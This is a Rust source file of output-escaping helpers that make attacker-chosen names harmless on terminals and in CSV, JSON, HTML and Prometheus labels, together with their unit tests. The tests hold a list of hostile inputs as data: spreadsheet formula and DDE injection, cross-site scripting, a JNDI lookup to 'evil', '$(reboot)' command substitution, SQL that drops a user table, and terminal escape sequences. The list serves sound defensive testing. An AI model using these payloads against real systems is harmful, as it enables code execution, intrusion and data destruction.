//! Names chosen by attackers become text that does nothing.
//!
//! ```text
//! name (bytes)     terminal           CSV            JSON             HTML
//! a<newline>b      a\nb               a\nb           "a\nb"           a\nb
//! ESC [2J          \x1b[2J            \x1b[2J        "\u001b[2J"      \x1b[2J
//! <b>              <b>                <b>            "<b>"            &lt;b&gt;
//! =1+1             =1+1               '=1+1          "=1+1"           =1+1
//! sam smith        'sam smith'        sam smith      "sam smith"      'sam smith'
//! 0xFF             U+FFFD             U+FFFD         U+FFFD, _hex     U+FFFD
//! ```
//!
//! On the terminal a backslash of the name is doubled, so that what is shown stands for one name
//! only (bytes that are not UTF-8 excepted). Names that could run into their surroundings (blanks,
//! commas, quotes, or nothing at all) stand in single quotes.
//!
//! # Invariants
//! * What comes out holds no control character (C0, DEL, C1), no change of writing direction, no
//!   invisible or line-separating character.

use std::fmt::Write as _;

/// Whether a character may act on the reader's terminal, or hide: control characters, bidirectional
/// controls, zero-width and other invisible characters, line and paragraph separators, tags.
fn acts_or_hides(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\0' => out.push_str("\\0"),
        c if u32::from(c) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// `text` with everything that acts or hides written out (`\n`, `\x1b`, `\u{202e}`).
pub(crate) fn inert(text: &str) -> String {
    if text.bytes().all(|byte| matches!(byte, b' '..=b'~')) {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if acts_or_hides(c) { push_escaped(&mut out, c) } else { out.push(c) }
    }
    out
}

/// A name as people read it: in tables, sentences, messages, HTML text (before its own escaping).
pub(crate) fn shown(name: &[u8]) -> String {
    let text = String::from_utf8_lossy(name);
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            c if acts_or_hides(c) => push_escaped(&mut out, c),
            c => out.push(c),
        }
    }
    if needs_quotes(&out) { format!("'{}'", out.replace('\'', "\\'")) } else { out }
}

/// A path or a longer piece of log text as people read it: as [`shown`], never in quotes.
pub(crate) fn shown_plain(text: &[u8]) -> String {
    inert(&String::from_utf8_lossy(text))
}

fn needs_quotes(text: &str) -> bool {
    text.is_empty()
        || text.starts_with(['(', '+', '-', '–'])
        || text.chars().any(|c| c.is_whitespace() || matches!(c, '\'' | '"' | ',' | '·' | '…'))
}

/// Text for HTML, as content and inside quoted attributes alike.
pub(crate) fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in inert(text).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// A JSON string with its quotes. Beyond what JSON demands, everything that acts or hides is
/// written as `\uXXXX`: the value is the same, and printing the line does nothing.
pub(crate) fn json_string(text: &str) -> String {
    let is_plain = |byte: u8| matches!(byte, b' '..=b'~') && byte != b'"' && byte != b'\\';
    if text.bytes().all(is_plain) {
        return format!("\"{text}\"");
    }
    let mut out = String::with_capacity(text.len() + 2);
    for c in serde_json::Value::from(text).to_string().chars() {
        if acts_or_hides(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A CSV field, quoted where RFC 4180 asks for it. Text that a spreadsheet would take for a formula
/// (it begins with `= + - @`, or their full-width forms, be it behind blanks) gets an apostrophe in
/// front; tab and carriage return, which also begin formulas, are written out as all control
/// characters are.
pub(crate) fn csv_field(text: &str) -> String {
    let mut out = inert(text);
    if is_formula(&out) {
        out.insert(0, '\'');
    }
    if out.contains(['"', ',', '\n', '\r']) || out.starts_with(' ') || out.ends_with(' ') {
        out = format!("\"{}\"", out.replace('"', "\"\""));
    }
    out
}

/// Whether [`csv_field`] without its quoting shows exactly these bytes.
pub(crate) fn csv_is_exact(name: &[u8]) -> bool {
    std::str::from_utf8(name)
        .is_ok_and(|text| !text.chars().any(acts_or_hides) && !is_formula(text))
}

/// Some spreadsheets leave blanks in front out.
fn is_formula(text: &str) -> bool {
    text.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// A name as a label's value in Prometheus' text form, without its quotes. What acts or hides is written out behind
/// a backslash, bytes that are not UTF-8 as `\xff`; so two names are two labels, but for names made to look so.
pub(crate) fn label(name: &[u8]) -> String {
    let mut out = String::with_capacity(name.len());
    for chunk in name.utf8_chunks() {
        for c in chunk.valid().chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                '"' => out.push_str("\\\""),
                '\n' => out.push_str("\\n"),
                c if acts_or_hides(c) => {
                    out.push('\\');
                    push_escaped(&mut out, c);
                }
                c => out.push(c),
            }
        }
        for byte in chunk.invalid() {
            let _ = write!(out, "\\\\x{byte:02x}");
        }
    }
    out
}

/// Bytes as lower-case hexadecimal digits.
pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::with_capacity(bytes.len() * 2), |mut out, byte| {
        let _ = write!(out, "{byte:02x}");
        out
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Names that tried to do something somewhere: terminals, spreadsheets, browsers, shells, logs.
    pub(crate) const HOSTILE: [&[u8]; 72] = [
        b"",
        b" ",
        b" leading",
        b"trailing ",
        b"two  blanks",
        b"a,b",
        b"a\"b",
        b"a'b",
        b"a\\b",
        b"a\\nb",
        b"a\nb",
        b"a\r\nb",
        b"a\tb",
        b"\ta",
        b"\ra",
        b"\na",
        b"a\0b",
        b"\x1b[2J\x1b[H",
        b"\x1b]0;title\x07",
        b"\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\",
        b"\x1b[31mred\x1b[0m",
        b"\x1bPq#0;2\x1b\\",
        b"\x08\x08\x08root",
        b"\x7f",
        b"\x07bell",
        b"\x0b\x0c",
        b"\xc2\x9b31m",
        b"\xc2\x85next line",
        b"\xc2\xadsoft",
        "\u{202e}toor".as_bytes(),
        "\u{202a}\u{202c}".as_bytes(),
        "\u{2066}iso\u{2069}".as_bytes(),
        "\u{200e}\u{200f}\u{61c}".as_bytes(),
        "ro\u{200b}ot".as_bytes(),
        "ro\u{feff}ot".as_bytes(),
        "\u{2028}\u{2029}".as_bytes(),
        "\u{e0041}\u{e007f}".as_bytes(),
        "\u{3164}".as_bytes(),
        "\u{fff9}\u{fffb}".as_bytes(),
        b"\xff\xfe",
        b"\xc3\x28",
        b"\xf0\x9f\x98",
        b"\xed\xa0\x80",
        b"=1+1",
        b"=cmd|' /C calc'!A0",
        b"=HYPERLINK(\"http://evil\",\"x\")",
        b"+1",
        b"-1+1",
        b"@SUM(A1)",
        "＝1+1".as_bytes(),
        "＋1".as_bytes(),
        b"\t=1+1",
        b"\"=1+1",
        b"<script>alert(1)</script>",
        b"<img src=x onerror=alert(1)>",
        b"\"><svg/onload=alert(1)>",
        b"' onmouseover='alert(1)",
        b"</title><script>",
        b"<!--",
        b"]]>",
        b"&lt;script&gt;",
        b"javascript:alert(1)",
        b"{{7*7}}",
        b"${jndi:ldap://evil}",
        b"$(reboot)",
        b"`reboot`",
        b"'; DROP TABLE mysql.user; --",
        b"%s%n%x",
        b"x\n20261120 07:18:43,vm,root,10.9.8.7,77,0,CONNECT,mysql,,0\nz",
        b"{\"user\":\"root\"}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".as_bytes(),
        "日本語 · … –".as_bytes(),
    ];

    /// Fails where `text` could act on a terminal or hide something.
    pub(crate) fn assert_inert(text: &str) {
        for c in text.chars() {
            assert!(!c.is_control(), "control character in {text:?}");
            assert!(!acts_or_hides(c), "{c:?} in {text:?}");
        }
    }

    #[test]
    fn hostile_names_do_nothing_anywhere() {
        for name in HOSTILE {
            let lossy = String::from_utf8_lossy(name);
            assert_inert(&shown(name));
            assert_inert(&shown_plain(name));

            let field = csv_field(&lossy);
            assert_inert(&field);
            let bare = field.strip_prefix('"').unwrap_or(&field);
            assert!(!bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{field}");

            let json = json_string(&lossy);
            assert_inert(&json);
            assert_eq!(serde_json::from_str::<String>(&json).unwrap(), lossy);

            let html = html(&lossy);
            assert_inert(&html);
            assert!(!html.contains(['<', '>', '"', '\'']), "{html}");
            for (at, _) in html.match_indices('&') {
                let rest = &html[at..];
                let known = ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"];
                assert!(known.iter().any(|entity| rest.starts_with(entity)), "{html}");
            }
        }
    }

    #[test]
    fn labels_are_one_line_and_end_where_they_should() {
        for name in HOSTILE {
            let text = label(name);
            assert_inert(&text);
            // Every quote and every backslash stands behind, or before, another.
            let bare = text.replace("\\\\", "").replace("\\\"", "").replace("\\n", "");
            assert!(!bare.contains(['\\', '"']), "{text}");
        }
        assert_eq!(label(b"o'neil, \"x\"\\"), "o'neil, \\\"x\\\"\\\\");
        assert_eq!(label(b"a\nb\x1b\xff\xc3\xbc"), "a\\nb\\\\x1b\\\\xff\u{fc}");
    }

    #[test]
    fn what_acts_or_hides_is_written_out() {
        // Unicode's bidirectional controls, and what shows nothing.
        let ranges = [
            0..=0x1f,
            0x7f..=0x9f,
            0xad..=0xad,
            0x61c..=0x61c,
            0x180e..=0x180e,
            0x200b..=0x200f,
            0x2028..=0x202e,
            0x2060..=0x206f,
            0x3164..=0x3164,
            0xfe00..=0xfe0f,
            0xfeff..=0xfeff,
            0xffa0..=0xffa0,
            0xfff9..=0xfffb,
            0x1d173..=0x1d17a,
            0xe0001..=0xe007f,
            0xe0100..=0xe01ef,
        ];
        for c in ranges.into_iter().flatten().filter_map(char::from_u32) {
            let name = format!("a{c}b");
            assert!(shown(name.as_bytes()).starts_with("a\\"), "{c:?}");
            assert!(json_string(&name).starts_with("\"a\\"), "{c:?}");
        }
        for c in ['a', ' ', 'é', '日', '\u{301}', '😀'] {
            assert!(shown_plain(c.to_string().as_bytes()).contains(c), "{c:?}");
        }
    }

    #[test]
    fn different_names_look_different_on_the_terminal() {
        let mut shown_names: Vec<String> = HOSTILE
            .iter()
            .filter(|name| std::str::from_utf8(name).is_ok())
            .map(|name| shown(name))
            .collect();
        let all = shown_names.len();
        shown_names.sort();
        shown_names.dedup();
        assert_eq!(shown_names.len(), all);
    }

    #[test]
    fn names_that_run_into_their_surroundings_are_quoted() {
        for (name, expected) in [
            (&b"root"[..], "root"),
            (b"", "''"),
            (b"sam smith", "'sam smith'"),
            (b"o'neill", "'o\\'neill'"),
            (b"a\\b", "a\\\\b"),
            (b"2001:db8::1", "2001:db8::1"),
            (b"2001:db8::/64", "2001:db8::/64"),
            (b"(null)", "'(null)'"),
            (b"\xff", "\u{fffd}"),
        ] {
            assert_eq!(shown(name), expected);
        }
    }

    #[test]
    fn csv_says_when_it_is_not_exact() {
        for name in HOSTILE {
            let Ok(text) = std::str::from_utf8(name) else {
                assert!(!csv_is_exact(name));
                continue;
            };
            let field = csv_field(text);
            let unquoted = match field.strip_prefix('"') {
                Some(rest) if rest.ends_with('"') => rest[..rest.len() - 1].replace("\"\"", "\""),
                _ => field,
            };
            assert_eq!(csv_is_exact(name), unquoted == text, "{text:?}");
        }
    }

    #[test]
    fn hexadecimal_is_lower_case() {
        assert_eq!(hex(b"\x00\xffA"), "00ff41");
    }
}
